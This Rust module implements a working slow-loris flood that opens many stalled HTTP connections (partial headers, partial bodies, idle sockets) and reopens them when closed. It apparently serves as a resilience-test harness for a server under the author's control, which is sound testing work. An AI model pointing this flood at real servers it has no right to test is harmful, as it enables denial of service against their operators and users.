//! A slow-loris flood: many connections from one client address, each stalled the way an
//! attacker (or a broken client) stalls one. A connection the server closes is opened again
//! after a pause, so the pressure lasts for as long as the flood runs. One thread drives every
//! connection with non-blocking sockets.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

/// How one connection stalls.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Stall {
    /// Sends part of a request head, then nothing.
    Head,
    /// Sends a whole head announcing a body, a few bytes of it, then nothing: the request
    /// reaches a component, which waits for the rest.
    Body,
    /// Connects and sends nothing.
    Idle,
}

impl std::str::FromStr for Stall {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "head" => Ok(Self::Head),
            "body" => Ok(Self::Body),
            "idle" => Ok(Self::Idle),
            other => Err(format!("unknown stall {other:?} (head, body, idle)")),
        }
    }
}

#[derive(Clone, Debug)]
pub struct FloodConfig {
    pub target: SocketAddr,
    /// The client address the flood comes from (bound before connecting), e.g. a second
    /// loopback address; `None` lets the system choose.
    pub source: Option<IpAddr>,
    pub connections: usize,
    /// The stalls, dealt to the connections in turn.
    pub stalls: Vec<Stall>,
    /// The route stalled requests name (a real API route, so a stalled body reaches a guest).
    pub path: String,
    /// How long a slot whose connection the server closed waits before connecting again.
    pub reopen_after: Duration,
}

/// What the flood saw.
#[derive(Clone, Debug, Default)]
pub struct FloodStats {
    pub connects: u64,
    pub connect_failures: u64,
    /// Connections the server closed (or reset).
    pub closed_by_server: u64,
    /// Statuses the server answered on the flood's connections, by status code.
    pub answers: BTreeMap<u16, u64>,
    /// The most connections open at once.
    pub peak_open: usize,
}

impl FloodStats {
    pub fn to_json(&self) -> String {
        let answers: Vec<String> = self
            .answers
            .iter()
            .map(|(status, n)| format!("\"{status}\":{n}"))
            .collect();
        format!(
            "{{\"connects\":{},\"connect_failures\":{},\"closed_by_server\":{},\"peak_open\":{},\"answers\":{{{}}}}}",
            self.connects,
            self.connect_failures,
            self.closed_by_server,
            self.peak_open,
            answers.join(",")
        )
    }
}

/// A running flood; [`Flood::stop`] closes every connection and returns what was seen.
pub struct Flood {
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
    thread: Option<JoinHandle<FloodStats>>,
}

impl Flood {
    pub fn start(config: FloodConfig) -> Flood {
        assert!(!config.stalls.is_empty(), "at least one kind of stall");
        let stop = Arc::new(AtomicBool::new(false));
        let open = Arc::new(AtomicUsize::new(0));
        let thread = {
            let (stop, open) = (stop.clone(), open.clone());
            std::thread::Builder::new()
                .name("flood".into())
                .spawn(move || run(config, &stop, &open))
                .expect("spawning the flood thread")
        };
        Flood {
            stop,
            open,
            thread: Some(thread),
        }
    }

    /// Connections open right now.
    pub fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }

    pub fn stop(mut self) -> FloodStats {
        self.stop.store(true, Ordering::Relaxed);
        self.thread
            .take()
            .expect("joined once")
            .join()
            .expect("flood thread")
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

struct Slot {
    stall: Stall,
    stream: Option<TcpStream>,
    seen: Vec<u8>,
    reopen_at: Instant,
}

fn payload(stall: Stall, config: &FloodConfig) -> Vec<u8> {
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n",
        config.path, config.target
    );
    match stall {
        Stall::Head => head.into_bytes(),
        Stall::Body => format!("{head}Content-Length: 4096\r\n\r\n{{\"m").into_bytes(),
        Stall::Idle => Vec::new(),
    }
}

/// A blocking connection to `target` from `source` (bound before connecting) if given.
pub fn connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let domain = Domain::for_address(target);
    let socket = Socket::new(domain, Type::STREAM, Some(Protocol::TCP))?;
    if let Some(source) = source {
        socket.bind(&SocketAddr::new(source, 0).into())?;
    }
    socket.connect_timeout(&target.into(), Duration::from_secs(2))?;
    let stream: TcpStream = socket.into();
    stream.set_nodelay(true)?;
    Ok(stream)
}

fn status_of(seen: &[u8]) -> Option<u16> {
    let line = seen.strip_prefix(b"HTTP/1.1 ")?;
    std::str::from_utf8(line.get(..3)?).ok()?.parse().ok()
}

fn run(config: FloodConfig, stop: &AtomicBool, open: &AtomicUsize) -> FloodStats {
    let now = Instant::now();
    let mut slots: Vec<Slot> = (0..config.connections)
        .map(|i| Slot {
            stall: config.stalls[i % config.stalls.len()],
            stream: None,
            seen: Vec::new(),
            reopen_at: now,
        })
        .collect();
    let mut stats = FloodStats::default();
    let mut buf = [0u8; 2048];
    while !stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        for slot in &mut slots {
            let Some(stream) = slot.stream.as_mut() else {
                if now < slot.reopen_at {
                    continue;
                }
                match connect(config.target, config.source) {
                    Ok(mut stream) => {
                        stats.connects += 1;
                        let bytes = payload(slot.stall, &config);
                        if !bytes.is_empty() && stream.write_all(&bytes).is_err() {
                            slot.reopen_at = now + config.reopen_after;
                            continue;
                        }
                        let _ = stream.set_nonblocking(true);
                        slot.seen.clear();
                        slot.stream = Some(stream);
                    }
                    Err(_) => {
                        stats.connect_failures += 1;
                        slot.reopen_at = now + config.reopen_after;
                    }
                }
                continue;
            };
            let closed = loop {
                match stream.read(&mut buf) {
                    Ok(0) => break true,
                    Ok(n) => {
                        if slot.seen.len() < 64 {
                            slot.seen.extend_from_slice(&buf[..n.min(64)]);
                        }
                    }
                    Err(e) if e.kind() == ErrorKind::WouldBlock => break false,
                    Err(e) if e.kind() == ErrorKind::Interrupted => continue,
                    Err(_) => break true,
                }
            };
            if closed {
                stats.closed_by_server += 1;
                if let Some(status) = status_of(&slot.seen) {
                    *stats.answers.entry(status).or_default() += 1;
                }
                slot.stream = None;
                slot.reopen_at = now + config.reopen_after;
            }
        }
        let open_now = slots.iter().filter(|s| s.stream.is_some()).count();
        open.store(open_now, Ordering::Relaxed);
        stats.peak_open = stats.peak_open.max(open_now);
        std::thread::sleep(Duration::from_millis(20));
    }
    // Answers still unread on open connections count too.
    for slot in &slots {
        if let Some(status) = status_of(&slot.seen) {
            *stats.answers.entry(status).or_default() += 1;
        }
    }
    open.store(0, Ordering::Relaxed);
    stats
}
